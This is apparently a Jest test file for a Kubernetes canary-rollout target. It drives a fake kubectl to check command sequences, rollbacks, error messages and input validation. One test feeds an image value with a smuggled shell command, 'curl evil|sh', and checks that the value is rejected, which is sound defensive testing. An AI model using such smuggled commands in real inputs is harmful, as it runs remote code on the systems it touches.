// The Kubernetes target with each router, driving a FAKE kubectl: a script written into a temp dir
// that records its argv and stdin and answers from a JSON store (patches applied by the real kubectl
// offline, `kubectl patch --local`). The command sequences of the healthy and faulty rollouts are
// golden. Real kubectl against the loopback stand-in API server is the bundle tests' job.
import { afterAll, describe, expect, test } from '@jest/globals';
import type { Release } from '../../../shared/model/release.js';
import type { DeployContext } from '../../../shared/ports/deploy-target.js';
import { KubernetesTarget, type KubernetesTargetOptions } from '../../../shared/targets/kubernetes/index.js';
import type { Deployment, HttpRoute } from '../../../shared/targets/kubernetes/objects.js';
import type { Logger } from '../../../shared/util/log.js';
import {
  fakeKubectl as fakeKubectlWith,
  ingress,
  removeFakeKubectls,
  route,
  validation,
  type FakeStore,
  type KubectlCall as Call
} from '../../helpers/fake-kubectl.js';

afterAll(removeFakeKubectls);

const fakeKubectl = (objects: Record<string, object>, more: Omit<FakeStore, 'objects'> = {}) => fakeKubectlWith(objects, more, render);

/** One command as a line, without the global flags (`--context`, `-n` are checked in their own test); patch bodies as <patch>. */
function render(c: Call): string {
  const argv: string[] = [];
  for (let i = 0; i < c.argv.length; i++) {
    if (c.argv[i] === '--context' || c.argv[i] === '-n') i++;
    else argv.push(c.argv[i - 1] === '-p' ? '<patch>' : c.argv[i]);
  }
  return `${argv.join(' ')}${c.exit === 0 ? '' : ` → exit ${c.exit}`}`;
}

function patchOf(c: Call): unknown {
  return JSON.parse(c.argv[c.argv.indexOf('-p') + 1]);
}

function recorder(): Logger & { lines: string[] } {
  const lines: string[] = [];
  return { lines, info: (m) => lines.push(`info ${m}`), warning: (m) => lines.push(`warning ${m}`), debug: () => {} };
}

const env = { PATH: process.env.PATH, KUBECONFIG: '/home/runner/.kube/config', INPUT_TOKEN: 'ghs_secret' };
const digest = 'sha256:' + 'ab'.repeat(32);
const release: Release = { version: '1.1.0', digest };
const previous: Release = { version: '1.0.0' };
const ctx = (weight = 0, extra: Partial<DeployContext> = {}): DeployContext => ({
  environment: 'prod',
  deploymentId: '4711',
  version: '1.1.0',
  previousVersion: '1.0.0',
  weight,
  ...extra
});

function stable(): Deployment {
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: {
      name: 'web',
      namespace: 'prod',
      uid: 'u1',
      resourceVersion: '10',
      generation: 3,
      creationTimestamp: '2025-01-01T00:00:00Z',
      labels: { app: 'web' },
      annotations: { 'deployment.kubernetes.io/revision': '3', 'shipgate.dev/release': '1.0.0', 'shipgate.dev/image': 'ghcr.io/acme/web:1.0.0' }
    },
    spec: {
      replicas: 4,
      selector: { matchLabels: { app: 'web' } },
      template: {
        metadata: { labels: { app: 'web' }, creationTimestamp: null },
        spec: {
          containers: [
            { name: 'web', image: 'ghcr.io/acme/web:1.0.0', ports: [{ containerPort: 8080 }] },
            { name: 'log-shipper', image: 'fluent/fluent-bit:3.0' }
          ]
        }
      }
    },
    status: { observedGeneration: 3, replicas: 4, readyReplicas: 4, updatedReplicas: 4, availableReplicas: 4 }
  };
}

type Traffic = 'replicas' | 'gateway-api' | 'ingress-nginx';

function world(traffic: Traffic, more: Omit<FakeStore, 'objects'> = {}) {
  const objects: Record<string, object> = { 'deployment/web': stable() };
  if (traffic === 'gateway-api') objects['httproute/web'] = route();
  if (traffic === 'ingress-nginx') objects['ingress/web'] = ingress();
  return fakeKubectl(objects, more);
}

function targetFor(bin: string, traffic: Traffic, extra: Partial<KubernetesTargetOptions> = {}) {
  const logger = recorder();
  const target = new KubernetesTarget({
    namespace: 'prod',
    context: 'kind-ci',
    deployment: 'web',
    container: 'web',
    service: 'web',
    canaryService: 'web-canary',
    httproute: 'web',
    ingress: 'web',
    traffic,
    rolloutTimeoutMs: 120_000,
    logger,
    env,
    kubectl: bin,
    ...extra
  });
  return { target, logger };
}

const DEPLOY = [
  'get deployment/web -o json',
  'get deployment/web-canary --ignore-not-found -o json',
  'apply --validate=false -f -',
  'rollout status deployment/web-canary --timeout=120s'
];
const PROMOTE_START = [
  'get deployment/web-canary --ignore-not-found -o json',
  'get deployment/web -o json',
  'patch deployment/web --type=strategic -p <patch> -o json',
  'rollout status deployment/web --timeout=120s'
];
const STEP: Record<Traffic, string[]> = {
  replicas: ['get deployment/web-canary --ignore-not-found -o json', 'get deployment/web -o json'],
  'gateway-api': ['get httproute/web -o json', 'patch httproute/web --type=json -p <patch> -o json'],
  'ingress-nginx': ['get ingress/web -o json', 'get ingress/web-canary --ignore-not-found -o json', 'apply --validate=false -f -']
};
const RESET_AT_10: Record<Traffic, string[]> = {
  replicas: [
    'get deployment/web-canary --ignore-not-found -o json',
    'get deployment/web -o json',
    'scale deployment/web-canary --replicas=0',
    'scale deployment/web --replicas=4'
  ],
  'gateway-api': ['get httproute/web -o json', 'patch httproute/web --type=json -p <patch> -o json'],
  'ingress-nginx': [
    'get ingress/web-canary --ignore-not-found -o json',
    'patch ingress/web-canary --type=merge -p <patch> -o json',
    'delete ingress/web-canary --ignore-not-found'
  ]
};
const RETIRE = [
  'get deployment/web-canary --ignore-not-found -o json',
  'delete deployment/web-canary --ignore-not-found',
  'get deployment/web --ignore-not-found -o json'
];

describe('healthy rollouts: the weights go through the steps and the image is promoted', () => {
  test('replicas: the canary starts at 0 pods; promotion sets image and the full replica count, waits, then retires the canary', async () => {
    const k = world('replicas');
    const { target, logger } = targetFor(k.bin, 'replicas');
    await target.deployCanary(release, ctx());
    expect(k.take()).toEqual(DEPLOY);
    const canary = k.objects()['deployment/web-canary'] as Deployment;
    expect(canary.spec?.replicas).toBe(0);
    expect(canary.spec?.template?.spec?.containers?.[0].image).toBe('ghcr.io/acme/web:1.1.0');
    expect(canary.metadata?.annotations).toMatchObject({
      'shipgate.dev/release': '1.1.0',
      'shipgate.dev/deployment-id': '4711',
      'shipgate.dev/stable-replicas': '4'
    });
    for (const w of [10, 50, 100]) await target.setWeight(w, ctx(w));
    expect(k.take()).toEqual([
      ...STEP.replicas,
      'scale deployment/web-canary --current-replicas=0 --replicas=1',
      'rollout status deployment/web-canary --timeout=120s',
      'scale deployment/web --current-replicas=4 --replicas=3',
      ...STEP.replicas,
      'scale deployment/web-canary --current-replicas=1 --replicas=2',
      'rollout status deployment/web-canary --timeout=120s',
      'scale deployment/web --current-replicas=3 --replicas=2',
      ...STEP.replicas,
      'scale deployment/web-canary --current-replicas=2 --replicas=4',
      'rollout status deployment/web-canary --timeout=120s',
      'scale deployment/web --current-replicas=2 --replicas=0'
    ]);
    expect(await target.status()).toEqual({ stable: { version: '1.0.0' }, canary: { version: '1.1.0', digest }, weight: 100 });
    k.take();
    await target.promote(ctx(100));
    expect(k.take()).toEqual([
      ...PROMOTE_START,
      'get deployment/web-canary --ignore-not-found -o json',
      'get deployment/web -o json',
      'scale deployment/web-canary --replicas=0',
      'delete deployment/web-canary --ignore-not-found'
    ]);
    const promotePatch = k.calls().find((c) => c.argv.includes('patch'))!;
    expect(patchOf(promotePatch)).toEqual({
      metadata: {
        annotations: {
          'shipgate.dev/release': '1.1.0',
          'shipgate.dev/deployment-id': '4711',
          'shipgate.dev/image': 'ghcr.io/acme/web:1.1.0',
          'shipgate.dev/previous-image': 'ghcr.io/acme/web:1.0.0',
          'shipgate.dev/digest': digest,
          'shipgate.dev/previous-release': '1.0.0'
        }
      },
      spec: { replicas: 4, template: { spec: { containers: [{ name: 'web', image: 'ghcr.io/acme/web:1.1.0' }] } } }
    });
    const objects = k.objects();
    expect(Object.keys(objects)).toEqual(['deployment/web']);
    const web = objects['deployment/web'] as Deployment;
    expect(web.spec?.replicas).toBe(4);
    expect(web.spec?.template?.spec?.containers?.map((c) => c.image)).toEqual(['ghcr.io/acme/web:1.1.0', 'fluent/fluent-bit:3.0']);
    expect(await target.status()).toEqual({ stable: { version: '1.1.0', digest }, canary: null, weight: 0 });
    expect(k.validateWritten()).toBe(2);
    expect(logger.lines.filter((l) => l.startsWith('info kubernetes'))).toEqual([
      'info kubernetes: deployment/web-canary in namespace prod runs ghcr.io/acme/web:1.1.0 (release 1.1.0) with 0 replicas, rolled out; weight 0 %.',
      'info kubernetes: deployment/web in namespace prod set to ghcr.io/acme/web:1.1.0 (release 1.1.0); waiting for its rollout.',
      'info kubernetes: release 1.1.0 promoted; deployment/web-canary in namespace prod deleted.'
    ]);
  });

  test('gateway-api: the canary has the stable replicas; the route goes 10, 50, 100, back to stable after the promotion', async () => {
    const k = world('gateway-api');
    const { target } = targetFor(k.bin, 'gateway-api', { image: 'ghcr.io/acme/web:{{version}}' });
    await target.preflight();
    expect(k.take()).toEqual(['get deployment/web -o json', 'get deployment/web-canary --ignore-not-found -o json', 'get httproute/web -o json']);
    await target.deployCanary(release, ctx());
    for (const w of [10, 50, 100]) await target.setWeight(w, ctx(w));
    expect(await target.status()).toMatchObject({ canary: { version: '1.1.0' }, weight: 100 });
    k.take();
    await target.promote(ctx(100));
    expect(k.calls().map(render)).toEqual([
      'get deployment/web -o json',
      'get deployment/web-canary --ignore-not-found -o json',
      'get httproute/web -o json',
      ...DEPLOY,
      ...STEP['gateway-api'],
      ...STEP['gateway-api'],
      ...STEP['gateway-api'],
      'get deployment/web --ignore-not-found -o json',
      'get deployment/web-canary --ignore-not-found -o json',
      'get httproute/web -o json',
      ...PROMOTE_START,
      ...RESET_AT_10['gateway-api'],
      'delete deployment/web-canary --ignore-not-found'
    ]);
    expect((k.calls().find((c) => c.stdin)!.stdin as Deployment).spec?.replicas).toBe(4);
    const objects = k.objects();
    expect(Object.keys(objects).sort()).toEqual(['deployment/web', 'httproute/web']);
    expect((objects['httproute/web'] as HttpRoute).spec?.rules?.[0].backendRefs?.map((b) => b.weight)).toEqual([100, 0]);
    expect((objects['deployment/web'] as Deployment).spec?.replicas).toBe(4);
    // 1 canary Deployment, 4 route patches, 1 patched stable Deployment.
    expect(k.validateWritten()).toBe(6);
  });

  test('ingress-nginx: a canary Ingress per step; the promotion sets weight 0, deletes the canary Ingress, then the canary Deployment', async () => {
    const k = world('ingress-nginx');
    const { target } = targetFor(k.bin, 'ingress-nginx');
    await target.deployCanary(release, ctx());
    for (const w of [10, 50, 100]) await target.setWeight(w, ctx(w));
    k.take();
    await target.promote(ctx(100));
    expect(k.take()).toEqual([...PROMOTE_START, ...RESET_AT_10['ingress-nginx'], 'delete deployment/web-canary --ignore-not-found']);
    expect(Object.keys(k.objects()).sort()).toEqual(['deployment/web', 'ingress/web']);
    // 1 canary Deployment, 3 canary Ingresses, 1 weight-0 patch, 1 patched stable Deployment.
    expect(k.validateWritten()).toBe(6);
  });
});

describe('faulty rollouts: weight 0 first, then the canary gone, with stable untouched', () => {
  for (const traffic of ['replicas', 'gateway-api', 'ingress-nginx'] as const) {
    test(`${traffic}: rollback at 10 %, traffic restored before the canary is deleted; a second rollback only reads`, async () => {
      const k = world(traffic);
      const { target } = targetFor(k.bin, traffic);
      const before = k.objects();
      await target.deployCanary(release, ctx());
      await target.setWeight(10, ctx(10));
      k.take();
      const start = k.calls().length;
      let restoredAt = -1;
      await target.rollback(previous, ctx(0, { signal: AbortSignal.abort(), onTrafficRestored: () => (restoredAt = k.calls().length) }));
      expect(k.take()).toEqual([...RESET_AT_10[traffic], ...RETIRE]);
      // onTrafficRestored came right after the router's commands, before the canary was deleted.
      expect(k.calls().slice(start, restoredAt).map(render)).toEqual(RESET_AT_10[traffic]);
      const after = k.objects();
      expect(Object.keys(after).sort()).toEqual(Object.keys(before).sort());
      const web = after['deployment/web'] as Deployment;
      const was = before['deployment/web'] as Deployment;
      if (traffic === 'replicas') {
        // Scaled 4 → 3 → 4: only the replica count was ever written, and it is back.
        expect({ ...web, metadata: { ...web.metadata, resourceVersion: '10' } }).toEqual(was);
      } else {
        expect(web).toEqual(was);
        expect(after[traffic === 'gateway-api' ? 'httproute/web' : 'ingress/web']).toMatchObject(
          traffic === 'gateway-api' ? { spec: { rules: [{ backendRefs: [{ weight: 100 }, { weight: 0 }] }] } } : ingress()
        );
      }
      expect(await target.status()).toEqual({ stable: { version: '1.0.0' }, canary: null, weight: 0 });
      k.take();
      await target.rollback(previous, ctx());
      const again: Record<Traffic, string[]> = {
        replicas: ['get deployment/web-canary --ignore-not-found -o json'],
        'gateway-api': ['get httproute/web -o json'],
        'ingress-nginx': ['get ingress/web-canary --ignore-not-found -o json']
      };
      expect(k.take()).toEqual([...again[traffic], 'get deployment/web-canary --ignore-not-found -o json', 'get deployment/web --ignore-not-found -o json']);
      k.validateWritten();
    });
  }

  test('a canary that never becomes ready fails deployCanary within rollout-timeout; the rollback removes it', async () => {
    const k = world('gateway-api', { neverReady: ['deployment/web-canary'] });
    const { target } = targetFor(k.bin, 'gateway-api');
    await expect(target.deployCanary(release, ctx())).rejects.toThrow(
      'deployment/web-canary in namespace prod did not become ready within 2m (kubectl rollout status): error: timed out waiting for the condition.'
    );
    expect(k.take().at(-1)).toBe('rollout status deployment/web-canary --timeout=120s → exit 1');
    await target.rollback(previous, ctx());
    expect(k.take()).toEqual(['get httproute/web -o json', ...RETIRE]);
    expect(Object.keys(k.objects()).sort()).toEqual(['deployment/web', 'httproute/web']);
    k.validateWritten();
  });

  test('a promotion whose stable rollout fails is undone by the rollback: the previous image and release are put back', async () => {
    const k = world('gateway-api');
    const { target, logger } = targetFor(k.bin, 'gateway-api');
    await target.deployCanary(release, ctx());
    await target.setWeight(100, ctx(100));
    k.update((s) => (s.neverReady = ['deployment/web']));
    await expect(target.promote(ctx(100))).rejects.toThrow('deployment/web in namespace prod did not become ready within 2m (kubectl rollout status)');
    k.update((s) => (s.neverReady = []));
    k.take();
    await target.rollback(previous, ctx());
    expect(k.take()).toEqual([
      ...RESET_AT_10['gateway-api'],
      ...RETIRE,
      'patch deployment/web --type=strategic -p <patch> -o json',
      'rollout status deployment/web --timeout=120s'
    ]);
    const web = k.objects()['deployment/web'] as Deployment;
    expect(web.spec?.template?.spec?.containers?.[0].image).toBe('ghcr.io/acme/web:1.0.0');
    expect(Object.keys(web.metadata?.annotations ?? {}).filter((a) => a.startsWith('shipgate.dev/'))).toEqual(['shipgate.dev/image', 'shipgate.dev/release']);
    expect(await target.status()).toEqual({ stable: { version: '1.0.0' }, canary: null, weight: 0 });
    expect(logger.lines).toContain(
      'info kubernetes: deployment/web in namespace prod was already changed to release 1.1.0 by the promotion; put back to ghcr.io/acme/web:1.0.0.'
    );
    // Safe twice: nothing to put back now.
    k.take();
    await target.rollback(previous, ctx());
    expect(k.take()).toEqual([
      'get httproute/web -o json',
      'get deployment/web-canary --ignore-not-found -o json',
      'get deployment/web --ignore-not-found -o json'
    ]);
    k.validateWritten();
  });
});

describe('every kubectl failure is the target failing, in one sentence naming the object', () => {
  test('apply refused (422), delete refused at the end of a promotion, rollout status of the stable', async () => {
    const invalid =
      'The Deployment "web-canary" is invalid: spec.template.metadata.labels: Invalid value: map[string]string{"app":"web"}: `selector` does not match template `labels`';
    const k = world('replicas', { faults: [{ match: 'apply', times: 1, stderr: invalid }] });
    const { target } = targetFor(k.bin, 'replicas');
    await expect(target.deployCanary(release, ctx())).rejects.toThrow(`kubectl could not apply deployment/web-canary in namespace prod: ${invalid}.`);
    await target.deployCanary(release, ctx());
    k.update(
      (s) =>
        (s.faults = [{ match: 'delete deployment/web-canary', times: 1, stderr: 'Error from server (Forbidden): deployments.apps "web-canary" is forbidden' }])
    );
    await expect(target.promote(ctx(100))).rejects.toThrow(
      'kubectl could not delete deployment/web-canary in namespace prod: Error from server (Forbidden): deployments.apps "web-canary" is forbidden.'
    );
    // The promotion is not half-ignored: a second promote finishes the job (the stable already runs the release).
    await target.promote(ctx(100));
    expect(Object.keys(k.objects())).toEqual(['deployment/web']);
    expect(await target.status()).toEqual({ stable: { version: '1.1.0', digest }, canary: null, weight: 0 });
    k.take();
    // Promoting again with nothing left: only the traffic is made sure of.
    await target.promote(ctx(100));
    expect(k.take()).toEqual([
      'get deployment/web-canary --ignore-not-found -o json',
      'get deployment/web -o json',
      'get deployment/web-canary --ignore-not-found -o json'
    ]);
    k.validateWritten();
  });

  test('refusals before anything is written: a bad image, a Deployment named <deployment>-canary that is not Shipgate’s, a canary of another release', async () => {
    const k = world('gateway-api');
    const bad = targetFor(k.bin, 'gateway-api', { image: 'ghcr.io/acme/web:{{version}};curl evil|sh' }).target;
    await expect(bad.deployCanary(release, ctx())).rejects.toThrow(
      'The image "ghcr.io/acme/web:1.1.0;curl evil|sh" (the image input) is not an image reference: use registry/name:tag or name@sha256:digest, with letters, digits and . _ / : @ - only.'
    );
    expect(k.take()).toEqual(['get deployment/web -o json']);

    const { target } = targetFor(k.bin, 'gateway-api');
    k.update((s) => (s.objects['deployment/web-canary'] = { ...stable(), metadata: { name: 'web-canary', namespace: 'prod' } }));
    const foreign =
      'deployment/web-canary in namespace prod exists but is not a Shipgate canary (no label shipgate.dev/track=canary): rename it, or choose another deployment.';
    await expect(target.deployCanary(release, ctx())).rejects.toThrow(foreign);
    await expect(target.rollback(previous, ctx())).rejects.toThrow(foreign);
    expect(k.take().filter((l) => !l.startsWith('get '))).toEqual([]);
    expect(k.objects()['deployment/web-canary']).toBeDefined();
    expect(await target.status()).toEqual({ stable: { version: '1.0.0' }, canary: null, weight: 0 });

    k.update((s) => delete s.objects['deployment/web-canary']);
    await target.deployCanary(release, ctx());
    await expect(target.promote(ctx(100, { version: '1.2.0' }))).rejects.toThrow(
      'deployment/web-canary in namespace prod runs release 1.1.0, not 1.2.0: another run replaced it, so it is not promoted.'
    );
    k.update((s) => delete s.objects['deployment/web-canary']);
    await expect(target.promote(ctx(100))).rejects.toThrow(
      'deployment/web-canary in namespace prod does not exist, so there is no canary to promote to release 1.1.0.'
    );
    k.validateWritten();
  });

  test('cancellation stops deploy and steps; the rollback ignores it', async () => {
    const k = world('replicas');
    const { target } = targetFor(k.bin, 'replicas');
    await expect(target.deployCanary(release, ctx(0, { signal: AbortSignal.abort() }))).rejects.toThrow(
      'kubectl could not get deployment/web in namespace prod: the job was cancelled.'
    );
    await target.deployCanary(release, ctx());
    await expect(target.setWeight(10, ctx(10, { signal: AbortSignal.abort() }))).rejects.toThrow(
      'The canary weight was not changed to 10 %: the job was cancelled.'
    );
    await target.rollback(previous, ctx(0, { signal: AbortSignal.abort() }));
    expect(Object.keys(k.objects())).toEqual(['deployment/web']);
    k.validateWritten();
  });
});

describe('state is read back from the cluster', () => {
  test('a killed run: a fresh runner finds the canary by its labels and annotations, sees its weight, and retires it', async () => {
    const k = world('gateway-api');
    const first = targetFor(k.bin, 'gateway-api').target;
    await first.deployCanary(release, ctx());
    await first.setWeight(10, ctx(10));
    // The runner dies here. Another job, another process, a new target:
    const fresh = targetFor(k.bin, 'gateway-api').target;
    expect(await fresh.status()).toEqual({ stable: { version: '1.0.0' }, canary: { version: '1.1.0', digest }, weight: 10 });
    expect(await fresh.canaryInfo()).toEqual({ release: { version: '1.1.0', digest }, deploymentId: '4711', image: 'ghcr.io/acme/web:1.1.0', replicas: 4 });
    await fresh.rollback(previous, ctx());
    expect(await fresh.status()).toEqual({ stable: { version: '1.0.0' }, canary: null, weight: 0 });
    k.validateWritten();
  });

  test('a paused run is promoted by a fresh runner with traffic: replicas, from the total recorded on the canary', async () => {
    const k = world('replicas');
    const first = targetFor(k.bin, 'replicas').target;
    await first.deployCanary(release, ctx());
    await first.setWeight(50, ctx(50));
    const fresh = targetFor(k.bin, 'replicas').target;
    expect(await fresh.status()).toMatchObject({ canary: { version: '1.1.0' }, weight: 50 });
    await fresh.promote(ctx(100));
    const web = k.objects()['deployment/web'] as Deployment;
    expect(web.spec?.replicas).toBe(4);
    expect(Object.keys(k.objects())).toEqual(['deployment/web']);

    // A new rollout over a canary left by a dead run keeps the total it split by.
    await fresh.deployCanary({ version: '1.2.0' }, ctx(0, { version: '1.2.0', deploymentId: '4712' }));
    await fresh.setWeight(50, ctx(50));
    const second = targetFor(k.bin, 'replicas');
    await second.target.deployCanary({ version: '1.3.0' }, ctx(0, { version: '1.3.0', deploymentId: '4713' }));
    expect(second.logger.lines).toContain(
      'warning kubernetes: deployment/web-canary in namespace prod is left from deployment 4712 (release 1.2.0): replacing it.'
    );
    expect((k.objects()['deployment/web-canary'] as Deployment).metadata?.annotations?.['shipgate.dev/stable-replicas']).toBe('4');
    k.validateWritten();
  });
});

describe('kubectl invocation and inputs', () => {
  test('every command carries --context and -n; no namespace or context: neither flag', async () => {
    const k = world('gateway-api');
    const { target } = targetFor(k.bin, 'gateway-api');
    await target.deployCanary(release, ctx());
    await target.setWeight(10, ctx(10));
    await target.rollback(previous, ctx());
    for (const c of k.calls()) expect(c.argv.slice(0, 4)).toEqual(['--context', 'kind-ci', '-n', 'prod']);
    const bare = targetFor(k.bin, 'gateway-api', { namespace: '', context: '' }).target;
    const start = k.calls().length;
    await bare.status();
    expect(
      k
        .calls()
        .slice(start)
        .map((c) => c.argv)
    ).toEqual([
      ['get', 'deployment/web', '--ignore-not-found', '-o', 'json'],
      ['get', 'deployment/web-canary', '--ignore-not-found', '-o', 'json']
    ]);
    k.validateWritten();
  });

  test('preflight: the container must be named when the pod has several; a restore checks only the router', async () => {
    const k = world('replicas');
    await expect(targetFor(k.bin, 'replicas', { container: '' }).target.preflight()).rejects.toThrow(
      'deployment/web in namespace prod has 2 containers (web, log-shipper): set the container input to the one whose image Shipgate sets.'
    );
    k.take();
    await targetFor(k.bin, 'replicas', { container: '' }).target.preflight({ restore: previous });
    expect(k.take()).toEqual([]);
    k.update((s) => ((s.objects['deployment/web'] as Deployment).spec!.replicas = 0));
    await expect(targetFor(k.bin, 'replicas').target.preflight()).rejects.toThrow(
      "deployment/web in namespace prod has 0 replicas: traffic: replicas splits the stable Deployment's replicas, so scale it up first."
    );
  });

  test('missing inputs are one sentence naming the input', () => {
    const base = { namespace: 'prod', deployment: 'web', container: 'web', rolloutTimeoutMs: 1000, logger: recorder(), env };
    expect(() => new KubernetesTarget({ ...base, deployment: '' })).toThrow(
      'target: kubernetes needs the deployment input (the stable Deployment to copy the canary from).'
    );
    expect(() => new KubernetesTarget({ ...base, traffic: 'gateway-api', service: 'web', canaryService: 'c' })).toThrow(
      'traffic: gateway-api needs the httproute input'
    );
    expect(() => new KubernetesTarget({ ...base, traffic: 'gateway-api', httproute: 'r', canaryService: 'c' })).toThrow(
      'traffic: gateway-api needs the service input'
    );
    expect(() => new KubernetesTarget({ ...base, traffic: 'gateway-api', httproute: 'r', service: 'web' })).toThrow(
      'traffic: gateway-api needs the canary-service input'
    );
    expect(() => new KubernetesTarget({ ...base, traffic: 'ingress-nginx', canaryService: 'c' })).toThrow('traffic: ingress-nginx needs the ingress input');
    expect(() => new KubernetesTarget({ ...base, traffic: 'ingress-nginx', ingress: 'web' })).toThrow('traffic: ingress-nginx needs the canary-service input');
    const t = new KubernetesTarget(base);
    expect([t.name, t.traffic, t.router.name, 'requestCounter' in t.router]).toEqual(['kubernetes', 'replicas', 'replicas', false]);
  });
});

test('every object applied and every patch result above was validated against the Kubernetes schemas', () => {
  // Canary Deployments applied, stable Deployments as patched (promotions, undos), routes and Ingresses as applied or patched.
  expect(validation.total).toBe(43);
  expect(validation.byKind).toEqual({ Deployment: 25, HTTPRoute: 12, Ingress: 6 });
});
